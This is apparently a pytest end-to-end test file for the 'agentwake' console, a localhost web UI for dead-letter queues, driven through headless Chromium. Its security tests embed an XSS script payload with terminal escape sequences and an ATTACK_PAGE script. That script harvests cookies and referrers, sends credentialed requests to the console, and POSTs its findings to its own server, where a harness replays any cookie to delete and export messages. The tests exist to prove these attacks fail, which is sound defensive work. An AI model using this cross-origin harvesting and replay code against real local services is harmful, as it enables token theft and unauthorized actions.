"""``agentwake console`` in a real browser (issue 26): Debian's headless Chromium (``make chromium``)
driven through chromedriver (tests/support/browser.py), against the console the real command
serves (``agentwake console --port 0`` in a subprocess) on a running local stack whose DLQ holds a
run that failed on every attempt.

The operator's 3 a.m. loop, as a person clicks it: the DLQ page lists the message with its reason
and counts → the run's timeline → a replay with the fixed provider from the page (DONE, nothing
written) → the session fixed → redrive of the ticked message, confirmed with its exact count → the
run succeeds. Then a body holding ``<script>`` and ESC sequences renders as text (the script never
runs), and a browser without the token is refused. And a page served from another port of
127.0.0.1, opened in the same browser after the console was used, can neither obtain the token nor
make the console act (issue 32: a cookie was sent to every port). Without the browser the test fails and says how to install it (it never skips); the
same pages over plain HTTP: tests/e2e/test_console_http.py.
"""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from typer.testing import CliRunner

from agentwake.store.dynamo import DynamoStore
from agentwake_local.stack import LocalStackRuntime
from agentwake_ops.cli import app
from agentwake_ops.cli_common import CliState
from tests.e2e.test_ops_dlq import DELIVERS_THEN_FAILS, FIXED
from tests.support import processes
from tests.support.browser import Browser, require_browser

ROOT = Path(__file__).resolve().parents[2]
AGENTWAKE_BIN = Path(sys.executable).parent / "agentwake"
SESSION = "s-browser"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("agentwake-home")


@pytest.fixture(scope="module")
def local(home: Path) -> Iterator[LocalStackRuntime]:
    require_browser()  # first: without the browser nothing else is worth starting
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("AGENTWAKE_HOME", str(home))
        for name in [
            k
            for k in os.environ
            if k.startswith("AGENTWAKE_") and k not in ("AGENTWAKE_HOME", "AGENTWAKE_CONSOLE_SCREENSHOTS")
        ]:
            mp.delenv(name)
        runtime = LocalStackRuntime(async_retry_delays=0, home=home)
        runtime.start(ROOT / "template.yaml", visibility_timeout_override=0, background=True)
        try:
            yield runtime
        finally:
            runtime.stop()


def agentwake(*args: str) -> Any:
    """``agentwake ARGS --json`` in-process, on the local stack the state file names."""
    result = CliRunner().invoke(app, [*args, "--json"], obj=CliState())
    assert result.exit_code == 0, f"agentwake {' '.join(args)}: {result.stdout}\n{result.stderr}"
    return json.loads(result.stdout)


def wait_for(condition: Any, what: str, within: float = 180.0) -> Any:
    deadline = time.monotonic() + within
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"waited {within:.0f} s for {what}")
        time.sleep(0.3)


@pytest.fixture(scope="module")
def console_url(local: LocalStackRuntime, home: Path) -> Iterator[str]:
    """The real command, found the local stack as every command does; the URL it printed."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("AGENTWAKE_")}
    env.update(AGENTWAKE_HOME=str(home), PYTHONUNBUFFERED="1", COLUMNS="200")
    process = processes.start(
        [str(AGENTWAKE_BIN), "console", "--port", "0"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        env=env,
        text=True,
    )
    try:
        assert process.stdout is not None
        url = None
        deadline = time.monotonic() + 120
        while url is None and time.monotonic() < deadline:
            line = process.stdout.readline()
            if not line:
                break
            found = re.search(r"open: (http://127\.0\.0\.1:\d+/[\w-]{20,}/dlq)\s*$", line)
            url = found.group(1) if found else None
        assert url, "agentwake console printed no URL"
        yield url
    finally:
        processes.stop(process, signal.SIGTERM)  # then SIGKILL, to its process group


def test_the_3am_loop_in_a_browser(local: LocalStackRuntime, console_url: str, tmp_path: Path) -> None:
    store = DynamoStore(local.outputs["AgentTableName"], client=local.client("dynamodb"))
    sqs = local.client("sqs")
    dlq_url = local.outputs["BackgroundResultDLQUrl"]

    def dlq_depth() -> int:
        attrs = sqs.get_queue_attributes(
            QueueUrl=dlq_url,
            AttributeNames=["ApproximateNumberOfMessages", "ApproximateNumberOfMessagesNotVisible"],
        )["Attributes"]
        return int(attrs["ApproximateNumberOfMessages"]) + int(attrs["ApproximateNumberOfMessagesNotVisible"])

    # GIVEN a run that told the user something, then failed on every attempt until the local stack
    # dead-lettered it
    agentwake("sessions", "put", SESSION, *[a for p in DELIVERS_THEN_FAILS for a in ("--provider", json.dumps(p))])
    task = agentwake("tasks", "register", "--session", SESSION, "--tool", "web_research")
    agentwake(
        "tasks", "finish", task["task_id"], "--token", task["task_token"], "--status", "succeeded",
        "--result", "3 offers found", "--summary", "Research",
    )  # fmt: skip
    run_id = f"bg:{task['task_id']}"
    wait_for(lambda: dlq_depth() == 1, "the run to be dead-lettered")
    wait_for(lambda: (r := store.records.get_run(run_id)) is not None and r.status == "failed", "the run to be failed")
    [listed] = agentwake("dlq", "list")

    with Browser.start() as browser:
        try:
            _loop(browser, console_url, store, run_id, listed, dlq_depth)
            _hostile_body_and_no_token(browser, sqs, dlq_url)
        except AssertionError as exc:
            browser.screenshot(tmp_path / "console-failure.png")
            raise AssertionError(f"{exc}\n--- the page at {browser.url}:\n{browser.source[:3000]}") from exc


def test_the_dlq_page_refreshes_itself_when_asked_but_not_while_a_form_is_filled(console_url: str) -> None:
    with Browser.start() as browser:
        # GIVEN the DLQ page with its auto-refresh turned on from its own link
        browser.get(console_url)
        browser.click(browser.wait_for(lambda: browser.find("#auto-refresh-off a"), what="the refresh link"))
        marker = browser.wait_for(lambda: browser.find("#auto-refresh"), what="the refreshing page")
        assert "reloads itself every 30 s" in browser.text(marker)
        # (a period of its own, in its URL: every=5, the shortest, so that this test waits 5 s, not 30)
        browser.get(console_url + "?refresh=1&every=5")
        marker = browser.wait_for(lambda: browser.find("#auto-refresh"), what="the refreshing page")
        assert "reloads itself every 5 s" in browser.text(marker)

        # WHEN nobody touches it, THEN it reloads itself (a mark left on the page is gone) within a period
        browser.execute("window.loaded_before = 1")
        browser.wait_for(
            lambda: browser.execute(
                "return window.loaded_before === undefined && !!document.getElementById('auto-refresh')"
            ),
            within=90,
            what="the page to reload itself",
        )

        # WHEN the operator starts typing a filter, THEN the next period passes without a reload (the
        # text they typed is still there), and the page says why it waits
        browser.execute("window.loaded_before = 1")
        browser.type(browser.find("form.filters input[name='text']"), "AllProviders")
        paused = browser.wait_for(
            lambda: browser.execute("return document.getElementById('auto-refresh').getAttribute('data-paused')"),
            within=90,
            what="the refresh to skip its turn",
        )
        assert paused == "a form is being filled"
        assert browser.execute("return window.loaded_before") == 1
        assert browser.attribute(browser.find("form.filters input[name='text']"), "value") == "AllProviders"


ATTACK_PAGE = """<!doctype html><title>a page on another port</title><script>
(async () => {
  const console_ = "CONSOLE", out = {cookie: document.cookie, referrer: document.referrer};
  // read the console with the browser's credentials (the same-origin policy answers for it)
  for (const path of ["/", "/dlq", "/static/console.js"]) {
    try { const r = await fetch(console_ + path, {credentials: "include"}); out[path] = r.status + " " + await r.text(); }
    catch (e) { out[path] = "blocked: " + e; }
  }
  // act blindly, as a cross-site form would
  const form = new URLSearchParams({count: "1", id: "MESSAGE", csrf: ""});
  for (const path of ["/dlq/delete", "/dlq/export"]) {
    await fetch(console_ + path, {method: "POST", mode: "no-cors", credentials: "include", body: form}).catch(() => {});
  }
  // ask this page's own server for something: the browser sends it whatever it holds for 127.0.0.1
  await new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = "/pixel"; });
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
  document.title = "done";
})();
</script>"""


@contextmanager
def another_local_service(page: str) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """A service on another port of 127.0.0.1 that serves ATTACK_PAGE and records every request it
    gets (line, headers, body): all that a local service could read."""
    seen: list[dict[str, Any]] = []

    class Handler(BaseHTTPRequestHandler):
        def _record(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
            seen.append({"line": self.requestline, "headers": dict(self.headers.items()), "body": body})
            data = page.encode() if self.path == "/" else b"{}"
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if self.path == "/" else "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = _record  # noqa: N815

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def test_a_page_on_another_local_port_cannot_obtain_the_token_or_make_the_console_act(
    local: LocalStackRuntime, console_url: str, tmp_path: Path
) -> None:
    sqs = local.client("sqs")
    dlq_url = local.outputs["BackgroundResultDLQUrl"]
    token = urlsplit(console_url).path.split("/")[1]
    console_origin = "http://" + urlsplit(console_url).netloc
    # GIVEN a message in a DLQ, and the console used in the browser (its DLQ page open)
    message_id = sqs.send_message(QueueUrl=dlq_url, MessageBody='{"task_id": "task-victim"}')["MessageId"]
    assert message_id in {m["message_id"] for m in agentwake("dlq", "list")}
    export = tmp_path / "stolen.jsonl"
    page = ATTACK_PAGE.replace("CONSOLE", console_origin).replace("MESSAGE", message_id)
    with Browser.start() as browser, another_local_service(page) as (service_url, seen):
        browser.get(console_url)
        browser.wait_for(lambda: browser.find("#dlq-messages"), what="the DLQ table")
        # WHEN the same browser opens a page served from another port of 127.0.0.1, whose script reads
        # what it can, calls the console with the browser's credentials, and asks its own server
        browser.get(service_url + "/")
        browser.wait_for(lambda: browser.title == "done", what="the other page's script")
        # AND the service behind that page uses whatever it received to call the console itself
        harvested = json.dumps(seen)
        for request in seen:
            cookie = request["headers"].get("Cookie")
            if not cookie:
                continue
            answer = _http(console_origin + "/dlq", headers={"Cookie": cookie})
            found = re.search(r'name="csrf" value="([^"]+)"', answer)
            if found:
                form = f"csrf={found.group(1)}&count=1&id={message_id}"
                _http(console_origin + "/dlq/delete", headers={"Cookie": cookie}, body=form)
                _http(console_origin + "/dlq/export", headers={"Cookie": cookie}, body=f"{form}&out={export}")

    # THEN nothing it received holds the token (no cookie, no referrer, no page text)
    assert seen and token not in harvested, harvested[:3000]
    assert all("Cookie" not in r["headers"] for r in seen)
    report = json.loads(next(r["body"] for r in seen if r["line"].startswith("POST /report")))
    assert report["cookie"] == "" and token not in report["referrer"]
    assert all(report[p].startswith("blocked") for p in ("/", "/dlq", "/static/console.js"))
    # AND the console did nothing: the message is still in its DLQ, nothing was exported
    assert message_id in {m["message_id"] for m in agentwake("dlq", "list")}
    assert not export.exists()


def _http(url: str, *, headers: dict[str, str], body: str | None = None) -> str:
    """A plain request as a local service makes it; the answer's text whatever its status."""
    request = urllib.request.Request(url, data=None if body is None else body.encode(), headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=300) as answer:  # noqa: S310 (127.0.0.1 only)
            return str(answer.read().decode("utf-8", "replace"))
    except urllib.error.HTTPError as refused:
        return str(refused.read().decode("utf-8", "replace"))


def _loop(
    browser: Browser, console_url: str, store: DynamoStore, run_id: str, listed: dict[str, Any], dlq_depth: Any
) -> None:
    # WHEN the operator opens the URL the console printed
    browser.get(console_url)

    # THEN the DLQ page lists the message with its run, its reason, and the counts by error type
    # `dlq list` gives; the browser holds no cookie of the console's
    browser.wait_for(lambda: browser.find("#dlq-messages"), what="the DLQ table")
    assert browser.url == console_url and browser.execute("return document.cookie") == ""
    row = browser.find(f"tr[data-message-id='{listed['message_id']}']")
    row_text = browser.text(row)
    assert run_id in row_text and "AllProvidersFailed" in row_text
    assert listed["error"].splitlines()[0][:40] in row_text
    counts = browser.text(browser.find("table.by-error-type"))
    assert f"{listed['error_type']} 1" in counts
    _keep_screenshot(browser, "dlq")

    # WHEN the run is opened from its row
    browser.click(browser.find(f"tr[data-message-id='{listed['message_id']}'] a[href^='run']"))

    # THEN its timeline shows the step, the delivery, then its identical failed attempts once, with their count
    timeline = browser.wait_for(lambda: browser.find("table.timeline"), what="the timeline")
    kinds = [browser.text(k) for k in browser.find_all("table.timeline tbody tr td:nth-child(3)")]
    assert kinds.index("reply") < kinds.index("delivery") < kinds.index("failure")
    attempts = listed["attempts"]
    assert attempts == 5 and kinds.count("failure") == 1
    failure = browser.text(browser.find("table.timeline tr.kind-failure"))
    assert f"attempts 1–{attempts} failed the same way ×{attempts}: AllProvidersFailed" in failure
    main = browser.text(browser.find("main"))
    assert main.count("All chat models failed") == 1
    assert "Working on your research." in browser.text(timeline)
    # AND the replay form is near the top of the page, above the timeline
    form_top = browser.execute("return document.getElementById('replay-form').getBoundingClientRect().top")
    timeline_top = browser.execute("return document.querySelector('table.timeline').getBoundingClientRect().top")
    assert form_top < timeline_top and form_top < 700, (form_top, timeline_top)
    _keep_screenshot(browser, "run")

    # WHEN a replay with the fixed provider is run from the page
    items_before = _items(store)
    providers = browser.find("#replay-form textarea[name='providers']")
    browser.clear(providers)
    browser.type(providers, json.dumps([FIXED]))
    browser.click(browser.find("#replay"))

    # THEN it reaches DONE, and nothing was written or delivered
    outcome = browser.wait_for(lambda: browser.find("#replay-outcome"), what="the replay outcome")
    assert "DONE" in browser.text(outcome)
    assert browser.find_all("table.would-deliver tbody tr") == []
    assert _items(store) == items_before

    # WHEN the proven config is applied to the session from the page
    browser.click(browser.find("#apply"))

    # THEN a confirmation shows the exact change, and nothing is written until it is confirmed
    change = browser.wait_for(lambda: browser.find("#apply-change"), what="the change to confirm")
    assert browser.text(change) == f"Change 1 setting(s) of session {SESSION}?"
    [row] = browser.find_all("table.apply-change tbody tr")
    assert '"p2"' in browser.text(row) and '"p"' in browser.text(row)
    assert [p["id"] for p in agentwake("sessions", "show", SESSION)["providers"]] == ["p"]
    browser.click(browser.find("#apply-confirmed"))

    # THEN the session holds the fixed providers, and the run's message is offered for a redrive
    applied = browser.wait_for(lambda: browser.find("#apply-result"), what="the applied change")
    assert browser.text(applied) == f"Session {SESSION} updated: providers."
    assert agentwake("sessions", "show", SESSION)["providers"] == [FIXED]
    browser.click(browser.find("#redrive-run"))

    # THEN the confirmation states the exact count before anything moves
    confirm = browser.wait_for(lambda: browser.find("#confirm-count"), what="the confirmation")
    assert browser.text(confirm) == "Redrive exactly 1 message(s)?"
    assert dlq_depth() == 1

    # WHEN it is confirmed
    browser.click(browser.find("#confirm"))

    # THEN exactly that message left the DLQ, and the run succeeds
    result = browser.wait_for(lambda: browser.find("#redrive-result"), what="the redrive result")
    assert browser.text(result) == "Redrove 1 message(s)."
    wait_for(lambda: (r := store.records.get_run(run_id)) is not None and r.status == "succeeded", "the run to succeed")
    assert dlq_depth() == 0


def _hostile_body_and_no_token(browser: Browser, sqs: Any, dlq_url: str) -> None:
    # GIVEN a DLQ message whose body holds a script element and ESC sequences
    body = '{"task_id": "<script>window.pwned = 1</script>", "note": "\x1b[2J\x1b]0;owned\x07"}'
    sqs.send_message(QueueUrl=dlq_url, MessageBody=body)
    [hostile] = agentwake("dlq", "list")

    # WHEN its message page is opened
    browser.click(browser.find("header a[href='dlq']"))
    browser.click(
        browser.wait_for(lambda: browser.find(f"tr[data-message-id='{hostile['message_id']}'] a"), what="the row")
    )
    browser.wait_for(lambda: browser.find("main pre"), what="the body")

    # THEN the script is shown as text and never ran, and the ESC bytes are written out
    shown = browser.text(browser.find("main"))
    assert "<script>window.pwned = 1</script>" in shown and "\\x1b[2J" in shown
    assert browser.execute("return typeof window.pwned") == "undefined"
    assert browser.execute("return document.querySelectorAll('main script').length") == 0

    # WHEN the browser asks for a page without the token (the console's address, the token left out)
    parts = urlsplit(browser.url)
    browser.get(f"{parts.scheme}://{parts.netloc}/dlq")
    # THEN it is refused
    assert "refused: this console needs its token" in browser.text(browser.find("body"))


def _keep_screenshot(browser: Browser, name: str) -> None:
    """With AGENTWAKE_CONSOLE_SCREENSHOTS=DIR, the page as a PNG (what the README describes)."""
    folder = os.environ.get("AGENTWAKE_CONSOLE_SCREENSHOTS")
    if folder:
        Path(folder).mkdir(parents=True, exist_ok=True)
        browser.screenshot(Path(folder) / f"console-{name}.png")


def _items(store: DynamoStore) -> int:
    return int(store.table.db.scan(TableName=store.table.name, Select="COUNT")["Count"])
